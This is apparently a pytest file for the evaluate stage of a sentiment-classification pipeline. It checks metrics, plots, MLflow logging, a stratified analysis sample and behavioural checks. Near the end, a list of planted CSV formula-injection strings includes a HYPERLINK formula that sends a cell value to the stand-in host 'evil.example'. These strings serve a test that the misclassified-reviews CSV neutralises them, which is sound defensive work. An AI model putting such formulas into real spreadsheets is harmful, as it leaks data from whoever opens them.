"""The evaluate stage on a small trained model, and the behavioural checks themselves."""

from __future__ import annotations

import csv
import json

import mlflow
import numpy as np
import pandas as pd
import pytest
from mlflow.tracking import MlflowClient
from support import make_reviews, mark_validated, write_ingested

from steps import evaluate, train
from steps.measure import behavioural, sample
from steps.measure.metrics import classification_metrics
from steps.stage.config import load_params
from steps.stage.errors import StageError
from steps.tracking import runs, store

PNG_MAGIC = b"\x89PNG\r\n\x1a\n"


@pytest.fixture
def trained(tmp_path, tracking_uri):
    """A small model trained by the train stage into tmp_path, and where everything is."""
    reviews = make_reviews(500, seed=5)
    ingested = write_ingested(tmp_path / "ingested", reviews[:400], reviews[400:])
    paths = {
        "model_dir": tmp_path / "models" / "model",
        "info_file": tmp_path / "models" / "model.json",
        "marker": mark_validated(ingested),
    }
    with store.stage_run("train"):
        info = train.run(
            load_params().train,
            ingested_dir=ingested,
            metrics_file=tmp_path / "reports" / "train_metrics.json",
            **paths,
        )
    return {"ingested_dir": ingested, **paths, "info": info, "tmp": tmp_path}


def _outputs(tmp):
    reports = tmp / "reports"
    return {
        "metrics_file": reports / "metrics.json",
        "evaluation_file": reports / "evaluation.json",
        "plots_dir": reports / "plots",
        "misclassified_file": reports / "misclassified.csv",
        "behavioural_file": reports / "behavioural.json",
        "sample_file": reports / "analysis_sample.json",
    }


def test_evaluate_writes_metrics_plots_and_examples(trained):
    cfg = load_params().evaluate
    out = _outputs(trained["tmp"])
    model = runs.from_record(trained["info_file"], trained["model_dir"])
    with mlflow.start_run() as run:
        report = evaluate.run(
            cfg, model, ingested_dir=trained["ingested_dir"], marker=trained["marker"], **out
        )
    metrics = json.loads(out["metrics_file"].read_text())
    assert metrics == report["metrics"]
    # numbers only, so `dvc metrics show` lists figures and nothing else
    assert all(type(v) in (int, float) for v in metrics.values()), metrics
    record = json.loads(out["evaluation_file"].read_text())
    assert record == {k: v for k, v in report.items() if k != "metrics"}
    assert record["model_uri"] == trained["info"]["model_uri"]
    assert record["train_run_id"] == trained["info"]["run_id"]
    assert isinstance(record["behavioural_checks_passed"], bool)
    assert metrics["n_reviews"] == 100 and metrics["accuracy"] > 0.9 and metrics["roc_auc"] > 0.9
    for suite in behavioural.SUITES:
        assert 0 <= metrics[f"behavioural_{suite}_pass_rate"] <= 1
    for name in ("confusion_matrix.png", "roc.png", "precision_recall.png"):
        assert (out["plots_dir"] / name).read_bytes()[:8] == PNG_MAGIC
    confusion = json.loads((out["plots_dir"] / "confusion.json").read_text())
    assert np.array(confusion["matrix"]).sum() == 100
    predictions = pd.read_csv(out["plots_dir"] / "predictions.csv")
    assert list(predictions.columns) == ["actual", "predicted"] and len(predictions) == 100
    roc = pd.read_csv(out["plots_dir"] / "roc.csv")
    assert list(roc.columns) == ["fpr", "tpr"] and roc["fpr"].is_monotonic_increasing
    assert list(pd.read_csv(out["plots_dir"] / "precision_recall.csv").columns) == [
        "recall", "precision",
    ]  # fmt: skip
    wrong = pd.read_csv(out["misclassified_file"])
    assert list(wrong.columns) == ["review", "sentiment", "predicted", "score", "confidence"]
    assert (wrong["sentiment"] != wrong["predicted"]).all()
    assert wrong["confidence"].is_monotonic_decreasing
    cases = json.loads(out["behavioural_file"].read_text())["cases"]
    assert {c["suite"] for c in cases} == set(behavioural.SUITES)
    client = MlflowClient()
    logged_run = client.get_run(run.info.run_id)
    data = logged_run.data
    assert data.metrics["test_accuracy"] == metrics["accuracy"]
    assert "behavioural_checks_passed" in data.metrics
    logged = {f.path for f in client.list_artifacts(run.info.run_id, "evaluation")}
    assert {
        "evaluation/roc.png",
        "evaluation/metrics.json",
        "evaluation/evaluation.json",
        "evaluation/misclassified.csv",
        "evaluation/analysis_sample.json",
    } <= logged
    # The test split is the run's input dataset, and the test metrics are the model's too.
    (test_input,) = logged_run.inputs.dataset_inputs
    assert test_input.dataset.name == "imdb-reviews-test"
    assert {t.key: t.value for t in test_input.tags}["mlflow.data.context"] == "test"
    model_metrics = {m.key: m for m in client.get_logged_model(model.model_id).metrics}
    assert model_metrics["test_accuracy"].value == metrics["accuracy"]
    assert model_metrics["test_accuracy"].dataset_name == "imdb-reviews-test"
    assert model_metrics["val_accuracy"].dataset_name == "imdb-reviews-validation"
    # The analysis sample deploy replays: logged in the run that logged the model (where every
    # version registered from it points), stratified so its accuracy is the test accuracy.
    model_run = trained["info"]["run_id"]
    assert model_run != run.info.run_id
    drawn = sample.load(model_run, "the trained model")
    assert drawn == sample.Sample(**json.loads(out["sample_file"].read_text()))
    assert len(drawn.reviews) == min(cfg.analysis_sample, metrics["n_reviews"])
    assert drawn.accuracy == metrics["accuracy"]
    assert abs(drawn.sample_accuracy - drawn.accuracy) <= 0.02
    assert set(drawn.labels) == {"positive", "negative"}


def test_the_analysis_sample_keeps_every_stratum_and_its_accuracy():
    reviews = [f"review {i}" for i in range(1000)]
    labels = ["positive" if i % 2 else "negative" for i in range(1000)]
    scores = np.array([0.9 if (i % 2) != (i % 10 == 0) else 0.1 for i in range(1000)])
    drawn = sample.draw(reviews, labels, scores, 100)
    assert drawn.accuracy == 0.9 and drawn.sample_accuracy == 0.9
    assert len(drawn.reviews) == 100 and drawn.labels.count("positive") == 50
    assert drawn.positive_share == 0.6  # the wrong tenth are negatives called positive
    assert sample.draw(reviews, labels, scores, 100) == drawn  # the same draw every time


def test_a_version_without_an_analysis_sample_is_one_clear_error(tracking_uri):
    with mlflow.start_run() as run:
        mlflow.log_text("{}", "evaluation/other.json")
    with pytest.raises(StageError, match=r"^version 7 has no analysis sample .*evaluate and"):
        sample.load(run.info.run_id, "version 7")


def test_evaluate_without_a_trained_model_says_to_run_train(trained, tmp_path):
    cfg = load_params().evaluate
    record = runs.from_record(trained["info_file"], tmp_path / "nothing")
    with pytest.raises(StageError, match="run the train stage first"):
        evaluate.run(
            cfg,
            record,
            ingested_dir=trained["ingested_dir"],
            marker=trained["marker"],
            **_outputs(tmp_path),
        )
    with pytest.raises(
        StageError, match="model.json: trained model record not found: run the train stage first"
    ):
        runs.from_record(tmp_path / "model.json")


def test_evaluate_a_model_chosen_by_its_train_run(trained, tmp_path):
    """`evaluate --run_id RUN` scores the model that run logged, not what models/ holds."""
    cfg = load_params().evaluate
    chosen = runs.from_run(trained["info"]["run_id"])
    assert chosen.location == chosen.model_uri == trained["info"]["model_uri"]
    out = _outputs(tmp_path / "chosen")
    with mlflow.start_run():
        report = evaluate.run(
            cfg, chosen, ingested_dir=trained["ingested_dir"], marker=trained["marker"], **out
        )
    assert report["model_uri"] == chosen.model_uri and report["metrics"]["accuracy"] > 0.9


def test_worst_misclassified_are_the_most_confident_mistakes():
    frame = pd.DataFrame(
        {"review": list("abcd"), "sentiment": ["positive", "positive", "negative", "negative"]}
    )
    wrong = evaluate.worst_misclassified(frame, np.array([0.4, 0.05, 0.3, 0.9]), count=5)
    assert wrong["review"].tolist() == ["b", "d", "a"]


def test_classification_metrics_by_hand():
    labels = ["positive", "positive", "negative", "negative"]
    metrics = classification_metrics(labels, np.array([0.9, 0.4, 0.2, 0.6]))
    # predicted positive: rows 0 and 3; one of two right; one of two positives found
    assert metrics["accuracy"] == 0.5
    assert metrics["precision"] == 0.5
    assert metrics["recall"] == 0.5
    assert metrics["f1"] == 0.5
    assert metrics["roc_auc"] == 0.75  # 3 of the 4 positive/negative pairs ranked right
    assert metrics["log_loss"] == pytest.approx(-np.mean(np.log([0.9, 0.4, 0.8, 0.4])), rel=1e-12)
    assert metrics["n_reviews"] == 4


def _keyword_scorer(negation_aware: bool):
    """A transparent scorer: counts sentiment words; optionally flips after 'not'/'n't'."""
    good = {"great", "loved", "wonderful", "superb", "best", "brilliant", "enjoyed", "enjoy"}
    good |= {"beautiful", "touching", "recommended", "recommend", "moving", "good", "like"}
    good |= {"liked", "worth"}
    bad = {"terrible", "hated", "worst", "boring", "waste", "awful", "avoid", "weak", "badly"}

    def score(texts):
        scores = []
        for text in texts:
            words = text.lower().replace(".", " ").replace(",", " ").replace("!", " ").split()
            total, sign = 0, 1
            for word in words:
                if negation_aware and (word in {"not", "didn't"}):
                    sign = -1
                total += sign * ((word in good) - (word in bad))
            scores.append(1 / (1 + np.exp(-2 * total)))
        return np.array(scores)

    return score


def test_behavioural_checks_pass_a_negation_aware_scorer():
    report = behavioural.run_checks(_keyword_scorer(negation_aware=True), min_pass_rate=1.0)
    assert report.passed, [c.text for c in behavioural.failures(report)]
    assert report.metrics()["behavioural_checks_passed"] == 1.0


def test_behavioural_checks_catch_a_scorer_blind_to_negation():
    report = behavioural.run_checks(_keyword_scorer(negation_aware=False), min_pass_rate=1.0)
    assert not report.passed
    assert report.pass_rates["directional"] == 0.0
    assert report.pass_rates["minimum_functionality"] == 1.0
    assert report.pass_rates["invariance"] == 1.0
    assert all(c.suite == "directional" for c in behavioural.failures(report))


def test_behavioural_invariance_catches_a_case_sensitive_scorer():
    def shouting_is_negative(texts):
        return np.array([0.1 if t.isupper() else _keyword_scorer(True)([t])[0] for t in texts])

    report = behavioural.run_checks(shouting_is_negative, min_pass_rate=1.0)
    assert [c.suite for c in behavioural.failures(report)] == ["invariance"]
    assert report.pass_rates["invariance"] == pytest.approx(0.9)
    assert behavioural.run_checks(shouting_is_negative, min_pass_rate=0.9).passed


FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Dreadful, boring, awful.")',
    "+1+1 Dreadful and boring, a terrible film.",
    "-2+3 Awful, dull and painful to watch.",
    "@SUM(1+1) Horrible, tedious and weak.",
    "\t=1+1 Boring, dreadful, lifeless.",
    "\r=1+1 Terrible, pointless, painful.",
]


def test_misclassified_csv_neutralises_cells_a_spreadsheet_would_run(tmp_path, tracking_uri):
    """Negative-sounding reviews labelled positive: the model is confidently wrong about each,
    so each lands in reports/misclassified.csv, where no cell may start a formula."""
    reviews = make_reviews(500, seed=5)
    planted = pd.DataFrame({"review": FORMULAS, "sentiment": ["positive"] * len(FORMULAS)})
    test = pd.concat([reviews[400:], planted], ignore_index=True)
    ingested = write_ingested(tmp_path / "ingested", reviews[:400], test)
    marker = mark_validated(ingested)
    paths = {"model_dir": tmp_path / "model", "info_file": tmp_path / "model.json"}
    with mlflow.start_run():
        train.run(load_params().train, ingested_dir=ingested, marker=marker,
                  metrics_file=tmp_path / "train_metrics.json", **paths)  # fmt: skip
    out = _outputs(tmp_path)
    model = runs.from_record(paths["info_file"], paths["model_dir"])
    with mlflow.start_run():
        evaluate.run(load_params().evaluate, model, ingested_dir=ingested, marker=marker, **out)
    with open(out["misclassified_file"], newline="", encoding="utf-8") as handle:
        rows = list(csv.DictReader(handle))
    shown = {row["review"] for row in rows}
    assert {f"'{text}" for text in FORMULAS} <= shown  # the words as written, behind a '
    for row in rows:
        for cell in row.values():  # scores and confidences are never negative
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
